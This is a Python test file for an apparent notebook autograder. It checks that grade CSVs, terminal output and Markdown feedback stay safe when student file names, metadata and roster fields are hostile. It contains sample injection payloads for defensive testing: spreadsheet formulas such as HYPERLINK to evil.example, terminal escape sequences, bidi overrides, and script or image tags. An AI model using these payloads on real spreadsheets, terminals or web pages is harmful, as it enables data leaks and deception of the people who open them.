"""Issue 22: every input a row, and every output safe to open.

One batch, given by absolute paths, holds a good notebook beside every kind of file that once
ended a batch (an oversize notebook and zip, links to a file and to a folder, a FIFO, a device
node, a file that vanishes between listing and reading) and beside files whose names and
metadata are formulas and terminal escape sequences. It runs as `autograder grade` in a child
process, so that its terminal output (table and progress bar) is what a teacher's terminal gets.
Then every CSV the package writes is read back cell by cell, the exports' terminal output is
checked, the report is drawn from a hostile training result, and the Markdown feedback is
rendered to HTML and compared with its text.
"""

from __future__ import annotations

import csv
import json
import os
import re
import stat
import subprocess
import sys
import unicodedata
from pathlib import Path

import nbformat
import pytest
from click.testing import CliRunner

from autograder.cli import main
from autograder.export.safe_text import (
    markdown_prose, markdown_text, plot_text, spreadsheet_cell, terminal_text,
)
from support.cli import the_error
from support.environment import missing_here
from support.submissions import RIGHT, SETUP
from support.paths import REPO

EXERCISE = "sigmoid_probability"
ROOT = REPO

# Names a spreadsheet would run, and names a terminal would obey (a file name holds no '/': the
# URL arrives through the metadata instead).
FORMULAS = ['=HYPERLINK("evil.example?"&A1,"click")', "+SUM(1;2)", "@SUM(1,2)", "\t=1+1",
            "\uff1d1+1"]
ESCAPES = ["\x1b]0;pwned\x07", "\x1b[2K\rgraded 6 of 6", "bidi\u202eevil"]
METADATA_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

TRIGGERS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def notebook(*cells: str, exercise: str = EXERCISE) -> str:
    nb = nbformat.v4.new_notebook()
    nb.metadata["autograder"] = {"exercise": exercise}
    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
    return nbformat.writes(nb)


def control_characters(text: str, allowed: str = "\n") -> list[str]:
    return [c for c in text if c not in allowed and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def assert_inert_csv(path: Path) -> list[list[str]]:
    """Read with the csv module: no cell a spreadsheet would take for a formula."""
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for cell in row:
            if cell and not PLAIN_NUMBER.fullmatch(cell.strip()):
                assert not cell.startswith(TRIGGERS) and not cell.lstrip().startswith(TRIGGERS), (path, cell)
            assert not control_characters(cell, allowed="\n\r\t"), (path, cell)
    return rows


# --------------------------------------------------------------------------- the helpers, one by one


@pytest.mark.parametrize("text", FORMULAS + ["\t=1+1", " =1+1", "\r=1", "\n=1", "-", "@"])
def test_a_formula_becomes_text_with_a_quote_in_front(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+2.5", "1e-3", "0", "-0.25", 7, 2.5, "ann", "Smith, Ann", ""])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_terminal_text_escapes_every_control_and_format_character():
    for hostile in ESCAPES + ["a\nb", "\ud800lone", "zero\u200bwidth", "del\x7f", "c1\x9b31m"]:
        shown = terminal_text(hostile)
        assert not control_characters(shown, allowed=""), shown
        shown.encode("utf-8")  # a lone surrogate would raise here
    assert terminal_text("\x1b]0;pwned\x07") == "\\x1b]0;pwned\\x07"
    assert terminal_text("Zoë Ørsted 张伟") == "Zoë Ørsted 张伟"


def rendered(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").render(markdown)


MARKUP = ['[click](http://evil.example)', '![x](http://evil.example/pixel.png)', '<img src=x onerror=alert(1)>',
          '<script>alert(1)</script>', '**bold** _it_ `code`', '$\\R3x$', '| a | b |', '&lt;b&gt; &amp;',
          '# heading', '- item', '1. first', 'a\\*b', '\x1b[2K\rline']


@pytest.mark.parametrize("text", MARKUP)
def test_markdown_text_renders_as_exactly_its_text(text):
    import html

    page = rendered(f"- Student: {markdown_text(text)}\n")
    assert re.fullmatch(r"<ul>\n<li>Student: (.*)</li>\n</ul>\n", page, re.S), page
    shown = html.unescape(re.sub(r"</?(ul|li)>|\n", "", page))
    assert shown == "Student: " + " ".join(text.replace("\x1b", "\\x1b").split())


@pytest.mark.parametrize("text", MARKUP)
def test_a_course_message_keeps_its_code_spans_but_no_link_image_tag_or_math(text):
    page = rendered(f"- {markdown_prose('expected `z`, got ' + text)}\n")
    assert "<code>z</code>" in page
    for tag in ("<a ", "<img", "<script", "<h1"):
        assert tag not in page, page
    assert markdown_prose(text).count("\\$") == text.count("$")  # no math in Jupyter's or GitLab's Markdown


def test_plot_text_is_drawn_as_text():
    from matplotlib.backends.backend_agg import FigureCanvasAgg
    from matplotlib.figure import Figure

    for label in ("$\\R3x$", "$x^2$ costs $5", "\\$", "a" * 500):
        fig = Figure()
        ax = fig.add_subplot(1, 1, 1)
        text = ax.set_title(plot_text(label))
        FigureCanvasAgg(fig).draw()  # mathtext would raise on \R
        assert text._preprocess_math(text.get_text()) == (terminal_text(label)[:59] + "\u2026" if len(label) > 60
                                                           else label, False)


# --------------------------------------------------------------------------- one hostile batch, end to end

VANISHING = "vanishing.ipynb"
# The CLI in a child process; `discover` lists every file, then the vanishing one is removed
# before it is read, as if its student deleted it at that moment.
CHILD = """
import sys
from pathlib import Path
import autograder.intake.submissions as submissions
listed = submissions.discover
def discover(paths):
    found = listed(paths)
    for f in found:
        if f.path.name == {vanishing!r}:
            f.path.unlink()
    return found
submissions.discover = discover
from autograder.cli import main
main(sys.argv[1:], prog_name="autograder")
"""


def run_cli(*args: str, vanishing: bool = False, terminal: bool = False) -> subprocess.CompletedProcess:
    """The CLI in a child process; `terminal`: its stdout and stderr are one pseudo-terminal
    (then the progress bar draws, and `stdout` holds both)."""
    env = dict(os.environ, PYTHONPATH=str(ROOT), COLUMNS="200")
    code = CHILD.format(vanishing=VANISHING) if vanishing else \
        "import sys\nfrom autograder.cli import main\nmain(sys.argv[1:], prog_name='autograder')"
    command = [sys.executable, "-c", code, *args]
    if not terminal:
        return subprocess.run(command, capture_output=True, text=True, env=env, timeout=600,
                              errors="surrogateescape")
    import fcntl
    import pty
    import select
    import struct
    import termios

    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 200, 0, 0))  # 200 columns for the bar
    child = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, env=env)
    os.close(slave)
    chunks = []
    while True:
        ready, _, _ = select.select([master], [], [], 600)
        try:
            chunk = os.read(master, 65536) if ready else b""
        except OSError:  # EIO: the child closed the terminal
            chunk = b""
        if not chunk:
            break
        chunks.append(chunk)
    os.close(master)
    code = child.wait(timeout=60)
    output = b"".join(chunks).decode("utf-8", "surrogateescape").replace("\r\n", "\n")
    return subprocess.CompletedProcess(command, code, output, "")


@pytest.fixture(scope="module")
def hostile_batch(fast_course, tmp_path_factory):
    if os.geteuid() != 0:
        missing_here("making a device node needs root", "run the tests as root (CI does)")
    root = tmp_path_factory.mktemp("hostile")
    subs, elsewhere = root / "subs", root / "elsewhere"
    subs.mkdir()
    elsewhere.mkdir()
    good = notebook(SETUP, *RIGHT)
    (subs / "good.ipynb").write_text(good)
    (elsewhere / f"{EXERCISE}.ipynb").write_text(good)
    with open(subs / "oversize.ipynb", "wb") as f:
        f.truncate(25 * 1024 * 1024)  # sparse: over the 20 MB limit, never read
    with open(subs / "oversize.zip", "wb") as f:
        f.truncate(60 * 1024 * 1024)
    os.symlink(elsewhere / f"{EXERCISE}.ipynb", subs / "link_to_file.ipynb")
    os.symlink(elsewhere, subs / "link_to_folder")
    os.mkfifo(subs / "fifo.ipynb")
    os.mknod(subs / "device.ipynb", 0o600 | stat.S_IFCHR, os.makedev(1, 3))  # /dev/null's numbers
    (subs / VANISHING).write_text(good)
    for name in FORMULAS + ESCAPES:
        (subs / f"{name}.ipynb").write_text(notebook("x = 1"))
    (subs / "metadata_formula.ipynb").write_text(notebook("x = 1", exercise=METADATA_FORMULA))
    (subs / "metadata_escape.ipynb").write_text(notebook("x = 1", exercise="\x1b]0;pwned\x07"))
    out = root / "out"
    done = run_cli("grade", str(subs), "--out", str(out), "--workers", "2", "--course", str(fast_course),
                   vanishing=True, terminal=True)
    assert done.returncode == 0, done.stdout + done.stderr
    return root, done


def test_every_input_gets_a_row_and_the_good_notebook_full_marks(hostile_batch):
    root, _ = hostile_batch
    with open(root / "out" / "grades.csv", newline="", encoding="utf-8") as f:
        rows = {Path(r["submission"]).name: r for r in csv.DictReader(f)}
    expected_invalid = {
        "oversize.ipynb": "over the limit", "oversize.zip": "over the limit",
        "link_to_file.ipynb": "symbolic link", "link_to_folder": "symbolic link",
        "fifo.ipynb": "named pipe", "device.ipynb": "device", VANISHING: "could not be read",
    }
    for name, words in expected_invalid.items():
        assert rows[name]["status"] == "invalid" and words in rows[name]["message"], rows[name]
        assert float(rows[name]["score"]) == 0 and rows[name]["sha256"] == ""
    assert (rows["good.ipynb"]["status"], float(rows["good.ipynb"]["score"])) == ("graded", 6.0)
    assert len(rows) == 1 + len(expected_invalid) + len(FORMULAS) + len(ESCAPES) + 2
    # One result and one feedback file per row, named from clean parts only.
    for folder, suffix in (("results", ".json"), ("feedback", ".md"), ("feedback", ".html")):
        names = [p.name for p in (root / "out" / folder).iterdir() if p.name.endswith(suffix)]
        assert len(names) == len(rows), names
        assert all(re.fullmatch(r"[A-Za-z0-9._-]+", n) for n in names), names
    assert not list((root / "out").rglob("*.part"))


def test_the_injected_names_arrive_in_grades_csv_as_inert_text(hostile_batch):
    root, _ = hostile_batch
    rows = assert_inert_csv(root / "out" / "grades.csv")
    header = rows[0]
    students = {r[header.index("student")] for r in rows[1:]}
    for name in FORMULAS:
        assert "'" + name in students  # the name, whole, as text
    exercises = {r[header.index("exercise")] for r in rows[1:]}
    assert "'" + METADATA_FORMULA in exercises
    assert "\\x1b]0;pwned\\x07" in students and "\\x1b]0;pwned\\x07" in exercises


def test_grade_prints_no_control_character(hostile_batch):
    """On a terminal: the table and the progress bar, which redraws its line with carriage
    returns and nothing else; no name moves the cursor or sets the window's title."""
    _, done = hostile_batch
    assert "grading: 100%" in done.stdout  # the bar drew
    assert not control_characters(done.stdout, allowed="\n\r"), repr(done.stdout[-800:])
    assert "\\x1b]0;pwned\\x07" in done.stdout
    for line in done.stdout.split("\r"):
        assert "graded 6 of 6" not in line or "\\x1b[2K\\rgraded 6 of 6" in line


HOSTILE_ROSTER = [
    ("student", "name", "id", "sis_user_id", "sis_login_id", "section", "email", "username"),
    ("good", '=HYPERLINK("http://evil.example","x")', "1001", "S-01", "good", "+A", "good@uni.example", "good"),
    ("mal", "@SUM(1,2)", "1002", "-S-02", "mal", "-1+1", "=1+1@uni.example", "\x1b]0;pwned\x07"),
    ("eve", "Eve \x1b[2K", "1003", "S-03", "eve", "A", "eve@uni.example", "eve"),
]


@pytest.mark.parametrize("fmt", ["canvas", "moodle", "csv"])
def test_every_export_is_inert_in_a_spreadsheet_and_in_the_terminal(hostile_batch, fast_course, fmt, tmp_path):
    root, _ = hostile_batch
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(HOSTILE_ROSTER)
    course = tmp_path / "course.yaml"
    settings = {"moodle": {"identifier": "email"}} if fmt == "moodle" else {}
    import yaml

    data = yaml.safe_load(Path(fast_course).read_text())
    data["lms"] = {**data.get("lms", {}), **settings, "canvas": {"assignments": {EXERCISE: "=1+1 banknote"}}}
    course.write_text(yaml.safe_dump(data))
    (tmp_path / "exercises").symlink_to(Path(fast_course).parent / "exercises")
    out = tmp_path / f"{fmt}.csv"
    done = run_cli("export", "--to", fmt, "--results", str(root / "out"), "--roster", str(roster),
                   "--course", str(course), "--out", str(out))
    assert done.returncode == 0, done.stdout + done.stderr
    assert not control_characters(done.stdout + done.stderr), done.stdout
    assert "could not be matched" in done.stdout and "\\x1b]0;pwned\\x07" in done.stdout
    rows = assert_inert_csv(out)
    cells = {c for row in rows for c in row}
    if fmt == "canvas":
        assert {"'" + HOSTILE_ROSTER[1][1], "'@SUM(1,2)", "'-S-02", "'+A", "'-1+1", "'=1+1 banknote"} <= cells
        assert "Eve \\x1b[2K" in cells
        good = next(r for r in rows if r[1] == "1001")
        assert good[rows[0].index("'=1+1 banknote")] == "6"  # the grade, a number the import reads
    elif fmt == "moodle":
        assert "'=1+1@uni.example" in cells
        assert next(r for r in rows if r[0] == "good@uni.example")[1] == "6"
    else:
        assert "'" + HOSTILE_ROSTER[1][1] in cells and "'@SUM(1,2)" in cells
        good = next(r for r in rows if r[0] == "good")
        assert good[2 + rows[0][2:].index(EXERCISE)] == "6"


def test_the_feedback_of_a_hostile_name_renders_as_its_text(hostile_batch):
    root, _ = hostile_batch
    for path in (root / "out" / "feedback").glob("HYPERLINK*.md"):
        page = rendered(path.read_text(encoding="utf-8"))
        assert "<a " not in page and "<img" not in page
        assert "=HYPERLINK(&quot;evil.example?&quot;&amp;A1,&quot;click&quot;)" in page


# --------------------------------------------------------------------------- the report


def test_the_report_draws_a_hostile_training_result(tmp_path):
    from autograder.export import write_result_json

    for student, device, metric in (("ann", "$\\R3x$", "accuracy"), ("bob", "cpu", "accuracy"),
                                    ("\x1b]0;x\x07$\\frac{", "cu$da", "accuracy")):
        details = {"metric": metric, "value": 0.9, "device": device, "seconds": 3.0, "epochs": 4}
        check = {"name": "accuracy", "points": 1.0, "max_points": 2.0, "message": "$\\R3x$", "hint": "",
                 "details": details}
        write_result_json({"submission": f"{student}.ipynb", "student": student, "exercise": "train_banknote",
                           "sha256": "", "status": "graded", "score": 1.0, "max_score": 2.0, "message": "",
                           "checks": [check], "graded_at": "2026-01-01T10:00:00+00:00", "seconds": 3.0},
                          tmp_path / "graded" / "results")
    done = CliRunner().invoke(main, ["report", "--results", str(tmp_path / "graded")])
    assert done.exit_code == 0, done.output
    html = (tmp_path / "graded" / "report.html").read_text()
    assert html.count("data:image/png;base64,") >= 3 and "$\\R3x$" in html


# --------------------------------------------------------------------------- malformed roster and course


def test_a_roster_row_with_more_fields_than_its_header_is_one_line_naming_file_and_line(fast_course, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("student,name,email\nann,Ann,ann@x\nbob,Smith, Bob,bob@x\n")
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "ann.ipynb").write_text(notebook("x = 1"))
    for args in (["grade", str(tmp_path / "subs"), "--out", str(tmp_path / "out"), "--quiet"],
                 ["export", "--to", "csv", "--results", str(tmp_path)]):
        done = CliRunner().invoke(main, [*args, "--roster", str(roster), "--course", str(fast_course)])
        assert done.exit_code != 0
        assert the_error(done.output) == \
            f"Error: {roster}, line 3: 4 fields, but the header has 3; a value that holds a comma must be quoted"
        assert not (tmp_path / "out" / "grades.csv").exists()


@pytest.mark.parametrize("content,line,words", [
    ("student,name\nann,Ann\n\xff\xfe,x\n".encode("latin-1"), 3, "not UTF-8"),
    (b"name,email\nann,a@x\n", 1, "'student' column"),
    (b"student,name\nann,Ann\n,Nobody\n", 3, "no student id"),
    (b'student,name\nann,"Ann\n', 2, "not a CSV row"),
])
def test_every_malformed_roster_names_its_line(tmp_path, content, line, words):
    from autograder.intake import Roster, RosterError

    path = tmp_path / "roster.csv"
    path.write_bytes(content)
    with pytest.raises(RosterError) as caught:
        Roster.load(path)
    message = str(caught.value)
    assert message.startswith(f"{path}, line {line}: ") and words in message and "\n" not in message


@pytest.mark.parametrize("text,line", [
    ("name: x\nexercises:\n  - id: sigmoid_probability\n   bad: [\n", 4),
    ("name: x\nexercises: [\n", 3),
    ("name: x\n\texercises: []\n", 2),
])
def test_a_malformed_course_file_is_one_line_naming_file_and_line(tmp_path, text, line):
    course = tmp_path / "course.yaml"
    course.write_text(text)
    done = CliRunner().invoke(main, ["grade", str(tmp_path), "--course", str(course), "--out", str(tmp_path / "o")])
    assert done.exit_code != 0
    message = the_error(done.output)
    assert message.startswith(f"Error: {course}, line {line}") and "not valid YAML" in message, message


def test_a_course_file_that_is_not_text_is_one_line(tmp_path):
    course = tmp_path / "course.yaml"
    course.write_bytes(b"name: x\nexercises: []\n\xff\xfe\n")
    done = CliRunner().invoke(main, ["grade", str(tmp_path), "--course", str(course), "--out", str(tmp_path / "o")])
    assert done.exit_code != 0
    message = the_error(done.output)
    assert message.startswith(f"Error: {course}, line 3") and "UTF-8" in message, message


# --------------------------------------------------------------------------- a write the machine refuses


@pytest.mark.parametrize("refusal,words", [
    (OSError(28, "No space left on device", "/data/out/report.html"),
     "Error: cannot write /data/out/report.html: No space left on device (the command stopped there)"),
    (OSError(30, "Read-only file system", "/data/out/report.html"), "Error: cannot write /data/out/report.html: Read-only"),
    (__import__("sqlite3").OperationalError("database or disk is full"),
     "Error: the gradebook cannot be opened or written: database or disk is full"),
])
def test_a_full_disk_or_read_only_folder_ends_a_command_with_one_line(tmp_path, monkeypatch, refusal, words):
    import autograder.build.scaffold as scaffold

    def refuse(*args, **kwargs):
        raise refusal

    monkeypatch.setattr(scaffold, "new_exercise", refuse, raising=True)
    monkeypatch.chdir(tmp_path)
    done = CliRunner().invoke(main, ["new-exercise", "my_exercise"])
    assert done.exit_code == 1
    assert the_error(done.output).startswith(words), done.output
    assert "Traceback" not in done.output


@pytest.mark.parametrize("make", ["fifo", "folder", "device"])
def test_a_device_fifo_or_folder_named_as_the_output_file_is_left_as_it_is(tmp_path, make):
    """The atomic write renames a finished file onto the path: onto /dev/full or a FIFO it would
    put a plain file where the device was. It is refused, in one line, and the thing stays."""
    from autograder.export.files import write_atomically

    target = tmp_path / "report.html"
    if make == "fifo":
        os.mkfifo(target)
    elif make == "folder":
        target.mkdir()
    else:
        target = Path("/dev/null")
    before = target.lstat().st_mode
    with pytest.raises(FileExistsError, match="not a file is there"):
        write_atomically(target, "<html></html>")
    assert target.lstat().st_mode == before and not list(tmp_path.glob("*.part"))
    done = CliRunner().invoke(main, ["new-exercise", "x_y", "--course", str(target)])
    assert done.exit_code == 1 and "Traceback" not in done.output


def test_report_to_a_fifo_is_one_line_and_the_fifo_stays(tmp_path, monkeypatch):
    report_command = sys.modules["autograder.cli.report"]  # the package's `report` is the click command

    fifo = tmp_path / "report.html"
    os.mkfifo(fifo)
    monkeypatch.setattr(report_command, "results_or_fail", lambda path: ([], tmp_path))
    done = CliRunner().invoke(main, ["report", "--results", str(tmp_path), "--out", str(fifo), "--no-feedback"])
    assert done.exit_code == 1
    assert the_error(done.output) == (f"Error: cannot write {fifo}: something that is not a file is there (a device, "
                                      "FIFO or folder); it is left as it is: name a file (the command stopped there)")
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


def test_a_file_size_limit_ends_a_real_command_with_one_line(tmp_path):
    import resource
    import signal

    def small_files():  # writes past 100 bytes fail with EFBIG, as on a full quota
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (100, 100))

    done = subprocess.run([sys.executable, "-m", "autograder", "new-exercise", "my_exercise"], cwd=tmp_path,
                          preexec_fn=small_files, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1
    assert done.stderr.strip().splitlines()[-1].startswith("Error: cannot write"), done.stderr
    assert "File too large" in done.stderr and "Traceback" not in done.stderr


# --------------------------------------------------------------------------- a path that is not there


def test_a_path_that_does_not_exist_stops_grade_before_anything_is_graded(fast_course, tmp_path):
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "ann.ipynb").write_text(notebook(SETUP, *RIGHT))
    typo = tmp_path / "sbus"
    done = CliRunner().invoke(main, ["grade", str(tmp_path / "subs"), str(typo), "--out", str(tmp_path / "out"),
                                     "--course", str(fast_course)])
    assert done.exit_code != 0
    assert the_error(done.output) == f"Error: no such file or folder: {str(typo)!r}; nothing was graded"
    assert not (tmp_path / "out" / "gradebook.sqlite").exists()


def test_a_link_to_a_folder_named_on_the_command_line_is_followed(fast_course, tmp_path):
    (tmp_path / "real" / "ann").mkdir(parents=True)
    (tmp_path / "real" / "ann" / "nb.ipynb").write_text(notebook("x = 1", exercise="nothing_known"))
    os.symlink(tmp_path / "real", tmp_path / "subs")
    done = CliRunner().invoke(main, ["grade", str(tmp_path / "subs"), "--out", str(tmp_path / "out"), "--quiet",
                                     "--course", str(fast_course)])
    assert done.exit_code == 0, done.output
    [row] = json.loads(json.dumps(list(csv.DictReader(open(tmp_path / "out" / "grades.csv", newline="")))))
    assert (row["student"], row["status"]) == ("ann", "unknown_exercise")


def nested(root: Path, depth: int, leaf: str, name: str = "a") -> None:
    """`depth` folders `name` inside each other under `root`, `leaf` (a file) in the last one;
    made relative to each folder, so that the whole path may be longer than PATH_MAX."""
    fd = os.open(root, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir(name, dir_fd=fd)
            inner = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        os.close(os.open(leaf, os.O_WRONLY | os.O_CREAT, dir_fd=fd))
    finally:
        os.close(fd)


def test_a_folder_nested_deeper_than_the_stack_is_a_row_not_a_crash(tmp_path):
    """os.walk recurses (Python 3.11): a student's folder nested deeper than the recursion limit
    (1,000 frames) ended the batch with a RecursionError. The limit is lowered here, so that the
    tree stays shallow enough for pytest's own clean-up. A folder whose path is longer than a
    path can be (PATH_MAX) is a row of its own."""
    import sys

    from autograder.intake import intake

    (tmp_path / "subs" / "bob").mkdir(parents=True)
    (tmp_path / "subs" / "eve").mkdir()
    nested(tmp_path / "subs" / "bob", 300, "deep.ipynb")
    nested(tmp_path / "subs" / "eve", 20, "deeper.ipynb", name="n" * 250)  # 5,000 characters
    frame, depth = sys._getframe(), 0
    while frame is not None:
        frame, depth = frame.f_back, depth + 1
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(depth + 150)  # 300 folders deep is deeper than the stack
    try:
        subs = {s.student: s for s in intake([str(tmp_path / "subs")], [EXERCISE])}
    finally:
        sys.setrecursionlimit(limit)
    assert set(subs) == {"bob", "eve"}
    assert subs["bob"].status == "invalid" and "empty" in subs["bob"].message
    assert subs["eve"].status == "invalid" and "the folder could not be read: File name too long" in subs["eve"].message
